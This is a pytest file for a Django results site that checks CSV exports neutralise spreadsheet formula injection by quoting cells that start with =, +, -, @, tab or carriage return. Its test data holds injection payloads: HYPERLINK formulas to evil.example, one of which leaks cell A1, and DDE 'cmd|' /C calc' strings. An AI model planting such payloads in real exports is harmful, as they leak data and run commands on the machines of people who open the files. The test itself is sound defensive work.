"""Downloads safe to open (issue 12, item 7): cells a spreadsheet would run as a
formula are neutralised in the CSV, as OWASP describes; numbers stay numbers."""

import csv
import io

import pytest
from django.core.management import call_command

from results.exports_safety import spreadsheet_cell
from results.models import System


@pytest.mark.parametrize(
    "text, expected",
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("NVIDIA A100", "NVIDIA A100"),
        ("a=b", "a=b"),
        ("", ""),
        ("-0.5", "-0.5"),
        ("1e-3", "1e-3"),
        ("2947.35", "2947.35"),
    ],
)
def test_spreadsheet_cell(text, expected):
    assert spreadsheet_cell(text) == expected


@pytest.mark.django_db
def test_a_formula_in_a_system_name_is_text_in_every_csv(client, v07):
    system = System.objects.filter(round=v07, submitter__slug="ivatech").first()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    System.objects.filter(pk=system.pk).update(name=evil, software="@SUM(1+1)*cmd|' /C calc'!A0")

    body = b"".join(client.get("/v0.7/results.csv").streaming_content).decode()
    out = io.StringIO()
    call_command("export_results", round="v0.7", format="csv", stdout=out)
    for text in (body, out.getvalue()):
        rows = [
            r
            for r in csv.DictReader(io.StringIO(text))
            if (r["system_id"], r["division"]) == (system.folder_id, system.division)
            and r["submitter"] == "IVATech"
        ]
        assert rows and all(r["system_name"] == "'" + evil for r in rows)
        assert all(r["software"].startswith("'@") for r in rows)
        starts = {cell[:1] for row in csv.reader(io.StringIO(text)) for cell in row}
        assert not starts & {"=", "+", "@", "\t", "\r"}
    # The JSON is data, not a sheet: it keeps the name as it is.
    data = client.get("/v0.7/results.json").json()["results"]
    assert any(r["system_name"] == evil for r in data)
